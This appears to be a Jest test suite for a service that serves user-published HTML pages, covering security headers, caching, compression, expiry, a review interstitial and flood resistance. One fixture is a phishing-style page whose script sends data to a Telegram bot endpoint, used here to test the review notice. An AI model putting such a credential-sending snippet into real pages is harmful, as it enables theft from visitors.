import { randomUUID } from 'node:crypto';
import { readdir, rm, truncate } from 'node:fs/promises';
import { Agent, request } from 'node:http';
import { connect, type Socket } from 'node:net';
import { join } from 'node:path';
import { brotliDecompressSync, gunzipSync } from 'node:zlib';
import { afterAll, afterEach, beforeAll, describe, expect, it } from '@jest/globals';
import { freePort, waitFor } from '@haru/testing';
import { makeArtifact, storagePathOf } from '../src/storage/html-storage/artifact.js';
import { FolderStore } from '../src/storage/html-storage/folder-store.js';
import { HtmlStorage } from '../src/storage/html-storage/html-storage.js';
import { expiredText } from '../src/viewer/screens/error-texts.js';
import { PAGE_SANDBOX } from '../src/viewer/headers/page-security.js';
import { ask, type Answer } from './http.js';
import { askAll, cpuSeconds, floodWith, residentMib } from './pipelined-flood.js';
import { SitesUnderTest } from './sites-under-test.js';

const PAGE = `<!doctype html><h1>やあ</h1>${'<p>こんにちは</p>'.repeat(200)}`;
const SHOWN = PAGE.replace('<h1>', '<title>やあ</title><h1>');

describe('viewer', () => {
  let sites: SitesUnderTest;
  let port: number;

  beforeAll(async () => {
    sites = await SitesUnderTest.start();
    ({ port } = await sites.startAll());
  }, 60_000);
  afterAll(() => sites.stop());

  const change = (path: string, columns: string) => sites.rows(`UPDATE sites SET ${columns} WHERE path = $1`, [path]);
  const published = async (): Promise<string> => (await sites.createSite({ htmlContent: PAGE })).path;

  function expectScreen(answer: Answer, status: number, code: string): void {
    expect(answer.status).toBe(status);
    expect(answer.headers['content-security-policy']).toBe(PAGE_SANDBOX);
    expect(answer.headers['cache-control']).toBe('no-store');
    expect(answer.body.toString()).toContain(`<code id="code">${code}</code>`);
  }

  it.each(['/share/', '/site/'])('shows a page under %s with every header', async (prefix) => {
    const path = await published();
    const [row] = await sites.rows<{ last_modified: Date }>('SELECT last_modified FROM sites WHERE path = $1', [path]);
    const answer = await ask(port, `${prefix}${path}?utm=x`);
    expect(answer.status).toBe(200);
    expect(answer.body.toString()).toBe(SHOWN);
    expect(answer.headers).toMatchObject({
      'content-type': 'text/html; charset=utf-8',
      'content-length': String(Buffer.byteLength(SHOWN)),
      'content-security-policy':
        'sandbox allow-scripts allow-forms allow-popups allow-popups-to-escape-sandbox allow-modals allow-downloads ' +
        'allow-pointer-lock allow-top-navigation-by-user-activation',
      'cache-control': 'public, max-age=0, must-revalidate',
      vary: 'Accept-Encoding',
      'x-content-type-options': 'nosniff',
      'referrer-policy': 'strict-origin-when-cross-origin',
      'last-modified': row?.last_modified.toUTCString(),
    });
    expect(answer.headers.etag).toMatch(/^"[0-9a-f]{32}"$/);
    expect(answer.headers['permissions-policy']).toContain('camera=()');
    expect(answer.headers).not.toHaveProperty('x-robots-tag');
    expect(answer.headers).not.toHaveProperty('set-cookie');
    expect(answer.headers).not.toHaveProperty('content-encoding');
  });

  it('sends brotli and gzip, each with its own ETag, from storage and from the database', async () => {
    const fromDatabase = await published();
    const fromStorage = await published();
    await ask(port, `/share/${fromDatabase}`);
    await sites.eventsHandled();
    for (const path of [fromDatabase, fromStorage]) {
      const br = await ask(port, `/share/${path}`, { headers: { 'accept-encoding': 'gzip, deflate, br, zstd' } });
      const gzip = await ask(port, `/share/${path}`, { headers: { 'accept-encoding': 'gzip' } });
      const plain = await ask(port, `/share/${path}`);
      expect(br.headers['content-encoding']).toBe('br');
      expect(gzip.headers['content-encoding']).toBe('gzip');
      expect(brotliDecompressSync(br.body).toString()).toBe(SHOWN);
      expect(gunzipSync(gzip.body).toString()).toBe(SHOWN);
      expect(new Set([br, gzip, plain].map(({ headers }) => headers.etag)).size).toBe(3);
      expect(br.body.length).toBeLessThan(plain.body.length / 4);
    }
    expect((await ask(port, `/share/${fromStorage}`, { headers: { 'accept-encoding': 'identity;q=0' } })).status).toBe(
      406,
    );
  });

  it('answers 304 to a matching If-None-Match, in the requested encoding', async () => {
    const path = await published();
    for (const encoding of ['br', 'gzip', 'identity']) {
      const { headers } = await ask(port, `/share/${path}`, { headers: { 'accept-encoding': encoding } });
      const again = (value: string, wanted = encoding) =>
        ask(port, `/share/${path}`, { headers: { 'accept-encoding': wanted, 'if-none-match': value } });
      const etag = headers.etag ?? '';
      for (const value of [etag, `W/${etag}`, `"x", ${etag}`, '*']) {
        const answer = await again(value);
        expect(answer.status).toBe(304);
        expect(answer.body).toHaveLength(0);
        expect(answer.headers).toMatchObject({
          etag,
          vary: 'Accept-Encoding',
          'content-security-policy': PAGE_SANDBOX,
          'cache-control': headers['cache-control'],
        });
        expect(answer.headers).not.toHaveProperty('content-type');
      }
      expect((await again('"other"')).status).toBe(200);
      expect((await again(etag, encoding === 'br' ? 'gzip' : 'br')).status).toBe(200);
    }
  });

  it('sends a part of a page in no encoding', async () => {
    const path = await published();
    const headers = { range: 'bytes=2-5', 'accept-encoding': 'br' };
    const part = await ask(port, `/share/${path}`, { headers });
    expect(part.status).toBe(206);
    expect(part.body.toString()).toBe(SHOWN.slice(2, 6));
    expect(part.headers).toMatchObject({
      'content-length': '4',
      'content-range': `bytes 2-5/${Buffer.byteLength(SHOWN)}`,
      'content-security-policy': PAGE_SANDBOX,
    });
  });

  it('answers HEAD like GET, without the body', async () => {
    const path = await published();
    const get = await ask(port, `/share/${path}`);
    for (const name of ['range', 'x-other']) {
      const head = await ask(port, `/share/${path}`, { method: 'HEAD', headers: { [name]: 'bytes=2-5' } });
      expect(head.status).toBe(200);
      expect(head.body).toHaveLength(0);
      expect({ ...head.headers, date: '' }).toEqual({ ...get.headers, date: '' });
    }
  });

  it('shows a notice before a page under review, once to each visitor', async () => {
    const text = '<input type="password"><script>fetch("https://api.telegram.org/bot1:A/sendMessage")</script>';
    const { path } = await sites.createSite({ htmlContent: `<title>x</title>${text}` });
    const target = `/share/${path}?a=b`;
    const get = (headers: Record<string, string> = {}) => ask(port, target, { headers });
    const press = (headers: Record<string, string>) => ask(port, target, { method: 'POST', headers });
    const notice = await get({ 'sec-fetch-dest': 'document' });
    expect(notice).toMatchObject({ status: 200, headers: { 'cache-control': 'no-store', 'x-robots-tag': 'noindex' } });
    expect(notice.body.toString()).toContain('このページは確認中です');
    expect(notice.body.toString()).toContain(`/report?path=${path}"`);
    expect(notice.body.toString()).not.toContain('<script');

    expect((await press({ 'sec-fetch-site': 'cross-site' })).status).toBe(405);
    expect((await press({ origin: 'null' })).status).toBe(405);
    const pressed = await press({ 'sec-fetch-site': 'same-origin', 'sec-fetch-dest': 'document' });
    expect(pressed).toMatchObject({ status: 303, headers: { location: target } });
    const [cookie = ''] = pressed.headers['set-cookie'] ?? [];
    expect(cookie).toMatch(new RegExp(`; Path=/share/${path}; Max-Age=3600; HttpOnly; SameSite=Lax$`));
    const own = cookie.split(';', 1)[0] ?? '';
    const shown = await get({ cookie: `a=b; ${own}` });
    expect(shown).toMatchObject({ status: 200, headers: { 'x-robots-tag': 'noindex' } });
    expect(shown.body.toString()).toContain(text);
    expect((await get({ cookie: `${own}x` })).body.toString()).not.toContain(text);
    const framed = await press({ 'sec-fetch-site': 'same-origin', 'sec-fetch-dest': 'iframe' });
    expect(framed.body.toString()).toContain(text);
    // The answer is not shown as a document.
    expect((await get({ 'sec-fetch-dest': 'empty' })).body.toString()).toContain(text);

    await change(path, 'under_review = false');
    const showsPage = async () => (await get()).body.toString().includes(text);
    await waitFor(showsPage, { timeoutMs: 5_000, what: 'the notice to end' });
    expect((await get()).headers['x-robots-tag']).toBeUndefined();
  });

  it('shows a change of noindex within five seconds, in both directions', async () => {
    const path = await published();
    const robots = async () => (await ask(port, `/share/${path}`)).headers['x-robots-tag'];
    expect(await robots()).toBeUndefined();
    await change(path, 'noindex = true');
    await waitFor(async () => (await robots()) === 'noindex', { timeoutMs: 5_000, what: 'noindex' });
    await change(path, 'noindex = false');
    await waitFor(async () => (await robots()) === undefined, { timeoutMs: 5_000, what: 'no noindex' });
  });

  it('answers 200 to If-None-Match when noindex has changed, in both directions', async () => {
    const path = await published();
    const gzip = { 'accept-encoding': 'gzip' };
    const { etag: seen = '' } = (await ask(port, `/share/${path}`, { headers: gzip })).headers;
    const again = (version: string) => ask(port, `/share/${path}`, { headers: { ...gzip, 'if-none-match': version } });
    expect((await again(seen)).status).toBe(304);
    await change(path, 'noindex = true');
    await waitFor(async () => (await again(seen)).status === 200, { timeoutMs: 5_000, what: 'another version' });
    const { headers } = await again(seen);
    expect(headers['x-robots-tag']).toBe('noindex');
    expect((await again(headers.etag ?? '')).status).toBe(304);
    await change(path, 'noindex = false');
    await waitFor(async () => (await again(seen)).status === 304, { timeoutMs: 5_000, what: 'the first version' });
    expect((await again(headers.etag ?? '')).headers).not.toHaveProperty('x-robots-tag');
  });

  it('shows a changed path, a deletion and a switched-off site within five seconds', async () => {
    const path = await published();
    expect((await ask(port, `/share/${path}`)).status).toBe(200);
    await change(path, `path = 'moved'`);
    await waitFor(async () => (await ask(port, `/share/${path}`)).status === 404, { timeoutMs: 5_000, what: '404' });
    expect((await ask(port, '/share/moved')).status).toBe(200);
    await change('moved', 'is_active = false');
    await waitFor(async () => (await ask(port, '/share/moved')).status === 410, { timeoutMs: 5_000, what: '410' });
    await sites.rows(`DELETE FROM sites WHERE path = 'moved'`);
    await waitFor(async () => (await ask(port, '/share/moved')).status === 404, { timeoutMs: 5_000, what: '404' });
  });

  it('stops exactly at the expiry, also for a cached page', async () => {
    const path = await published();
    const expiresAt = new Date(Date.now() + 3_000);
    await sites.rows('UPDATE sites SET expires_at = $2 WHERE path = $1', [path, expiresAt]);
    expect((await ask(port, `/share/${path}`)).status).toBe(200);
    const seen: { status: number; asked: number; answered: number }[] = [];
    await waitFor(
      async () => {
        const asked = Date.now();
        const { status } = await ask(port, `/share/${path}`);
        seen.push({ status, asked, answered: Date.now() });
        return status === 410;
      },
      { timeoutMs: 10_000, what: '410' },
    );
    expect(seen.filter(({ status }) => status === 200).length).toBeGreaterThan(2);
    for (const { status, asked, answered } of seen) {
      // The viewer decides at some time between request and answer.
      if (status === 200) expect(asked).toBeLessThan(expiresAt.getTime());
      else expect(answered).toBeGreaterThanOrEqual(expiresAt.getTime());
    }
    const { happened } = expiredText(expiresAt);
    const expectDated = (answer: Answer) => {
      expectScreen(answer, 410, 'SITE_EXPIRED');
      expect(answer.body.toString()).toContain(happened);
    };
    expectDated(await ask(port, `/share/${path}`));
    await sites.rows('UPDATE sites SET is_active = false WHERE path = $1', [path]);
    await sites.changes.announce([path]);
    for (const _ of ['from the database', 'known']) expectDated(await ask(port, `/share/${path}`));
  });

  it.each([
    ['lost', (file: string) => rm(file)],
    ['cut off', (file: string) => truncate(file, 100)],
  ])('serves a page whose artifact is %s from the database', async (_, damage) => {
    const path = await published();
    await sites.eventsHandled();
    const [row] = await sites.rows<{ storage_path: string }>('SELECT storage_path FROM sites WHERE path = $1', [path]);
    const [file = ''] = (await readdir(sites.storageDirectory, { recursive: true })).filter((name) =>
      name.endsWith(`${row?.storage_path.slice(37)}.artifact`),
    );
    await damage(join(sites.storageDirectory, file));
    const answer = await ask(port, `/share/${path}`, { headers: { 'accept-encoding': 'br' } });
    expect(brotliDecompressSync(answer.body).toString()).toBe(SHOWN);
  });

  it.each(['/share/', '/share', '/site/', '/share/a/b', '/share/UPPER', '/share/%E3%81%82', '/share/%', '/share/%00'])(
    'shows the error screen for %s',
    async (target) => expectScreen(await ask(port, target), 404, 'SITE_NOT_FOUND'),
  );

  it('shows the error screen for long and trailing-slash paths, and says when the path is missing', async () => {
    expectScreen(await ask(port, `/share/${'a'.repeat(5_000)}`), 404, 'SITE_NOT_FOUND');
    expectScreen(await ask(port, `/share/${await published()}/`), 404, 'SITE_NOT_FOUND');
    expect((await ask(port, '/share/?x=1')).body.toString()).toContain('パスが指定されていません');
  });

  it('answers a missing file of a page with a line of text, and a navigation with the screen', async () => {
    const missing = async (target: string, destination: string) =>
      ask(port, target, { headers: { 'sec-fetch-dest': destination } });
    for (const target of ['/share/style.css', '/share/nothing-here/style.css', '/share/']) {
      for (const destination of ['style', 'script', 'image', 'font', 'empty', 'worker', 'manifest']) {
        const answer = await missing(target, destination);
        expect(answer.status).toBe(404);
        expect(answer.headers).toMatchObject({
          'content-type': 'text/plain; charset=utf-8',
          'content-security-policy': PAGE_SANDBOX,
          'cache-control': 'no-store',
          'x-content-type-options': 'nosniff',
        });
        expect(answer.body.toString()).toBe('SITE_NOT_FOUND: ページが見つかりません\n');
      }
      for (const destination of ['document', 'iframe', 'frame', 'embed', 'object']) {
        expectScreen(await missing(target, destination), 404, 'SITE_NOT_FOUND');
      }
    }
  });

  it('refuses other methods and service workers, sandboxed all the same', async () => {
    const path = await published();
    for (const method of ['POST', 'PUT', 'DELETE', 'OPTIONS', 'PATCH']) {
      const answer = await ask(port, `/share/${path}`, { method });
      expect(answer.status).toBe(405);
      expect(answer.headers).toMatchObject({ allow: 'GET, HEAD', 'content-security-policy': PAGE_SANDBOX });
    }
    const worker = await ask(port, `/share/${path}`, { headers: { 'service-worker': 'script' } });
    expect(worker.status).toBe(403);
    expect(worker.headers['content-security-policy']).toBe(PAGE_SANDBOX);
    expect(worker.body.toString()).not.toContain('やあ');
  });

  it('has health checks and nothing else', async () => {
    expect((await ask(port, '/healthz')).status).toBe(200);
    expect((await ask(port, '/readyz')).status).toBe(200);
    for (const target of ['/', '/shares/x', '/functions/v1/serve-site', '/share.html']) {
      expect((await ask(port, target)).status).toBe(404);
    }
  });

  it('survives garbage on its socket', async () => {
    const socket = connect(port);
    const ended = new Promise((resolve) => socket.once('close', resolve));
    socket.on('error', () => undefined);
    socket.write('GET /share/\0\u0001 nonsense\r\n\r\n');
    socket.resume();
    await ended;
    expect((await ask(port, '/healthz')).status).toBe(200);
  });

  it('ends on SIGTERM immediately, with idle connections open', async () => {
    const { viewer, port: own } = await sites.spawnViewer();
    const agent = new Agent({ keepAlive: true });
    await new Promise<void>((resolve, reject) => {
      request({ port: own, path: `/healthz`, agent }, (response) => response.resume().on('end', resolve))
        .on('error', reject)
        .end();
    });
    const asked = Date.now();
    viewer.kill('SIGTERM');
    expect(await viewer.exited).toEqual({ code: 0, signal: null });
    expect(Date.now() - asked).toBeLessThan(5_000);
    agent.destroy();
  });

  describe('floods', () => {
    const MIB = 1024 * 1024;
    const open: Socket[] = [];
    afterEach(() => open.splice(0).forEach((socket) => socket.destroy()));

    /** Publishes different pages of 1 MiB. @returns their addresses */
    async function publishLarge(name: string, count: number): Promise<string[]> {
      const storage = new HtmlStorage(new FolderStore(sites.storageDirectory));
      const paths = Array.from({ length: count }, (_, index) => `${name}-${index}-large`);
      const publish = async (path: string): Promise<void> => {
        const [id, identity] = [randomUUID(), Buffer.alloc(MIB, `${path} `)];
        const storagePath = storagePathOf(id, identity);
        await sites.rows(
          `INSERT INTO sites (id, user_id, title, path, content_hash, bytes, storage_path, created_at, last_modified, expires_at)
           VALUES ($1, gen_random_uuid(), 'large', $2, 'large', 5, $3, now(), now(), now() + interval '10 days')`,
          [id, path, storagePath],
        );
        await storage.write(storagePath, await makeArtifact(identity));
      };
      await Promise.all(paths.map(publish));
      return paths.map((path) => `/share/${path}`);
    }

    it('of pipelined requests whose answers are not read cost other clients no processor time', async () => {
      const internalPort = await freePort();
      const { viewer, port: own } = await sites.spawnViewer({ INTERNAL_PORT: String(internalPort) });
      const [[large = ''], small] = [await publishLarge('one', 1), `/share/${await published()}`];
      expect((await ask(own, large)).body).toHaveLength(MIB);
      const lookups = async (): Promise<number> => {
        const metrics = (await ask(internalPort, '/metrics')).body.toString();
        return Number(/^haru_page_cache_lookups_total\{result="hit"\} (\d+)$/m.exec(metrics)?.[1]);
      };
      const others = Array<string>(500).fill(small);
      const secondsOfOthers = async (): Promise<number> => {
        const seconds: number[] = [];
        // What else the machine does makes some of them longer.
        for (let turn = 0; turn < 4; turn++) {
          const before = cpuSeconds(viewer.pid);
          await askAll(own, others);
          seconds.push(cpuSeconds(viewer.pid) - before);
        }
        return Math.min(...seconds);
      };
      // V8 compiles what runs often.
      await askAll(own, others);
      const [secondsBefore, lookupsBefore] = [await secondsOfOthers(), await lookups()];
      const flood = Array<string>(150).fill(large);
      open.push(...(await floodWith(own, 20, flood)));
      await waitFor(async () => (await lookups()) - lookupsBefore >= open.length, { what: 'the flood to be read' });
      expect(await secondsOfOthers()).toBeLessThanOrEqual(2 * secondsBefore);
      // Each connection has at most the answers that fit into its buffers, and one more.
      const answered = (await lookups()) - lookupsBefore - 4 * others.length;
      expect(answered).toBeLessThan((open.length * flood.length) / 4);
    }, 60_000);

    it('of pipelined requests for many pages keep few of them in memory', async () => {
      const { viewer, port: own } = await sites.spawnViewer({
        VIEWER_CACHE_BYTES: String(8 * MIB),
        VIEWER_MAX_UNSENT_BYTES: String(8 * MIB),
      });
      const [large, small] = [await publishLarge('many', 110), `/share/${await published()}`];
      const connections = 20;
      // Loading as many pages concurrently as the flood causes garbage that is not the flood's. On a busy machine some
      // of them wait too long for that.
      await askAll(own, large, { concurrency: connections, statuses: [200, 503] });
      const before = residentMib(viewer.pid);
      open.push(...(await floodWith(own, connections, large)));
      await askAll(own, Array<string>(400).fill(small));
      const during = residentMib(viewer.pid);
      expect(during).toBeLessThan(before + 75);
    }, 60_000);
  });
});
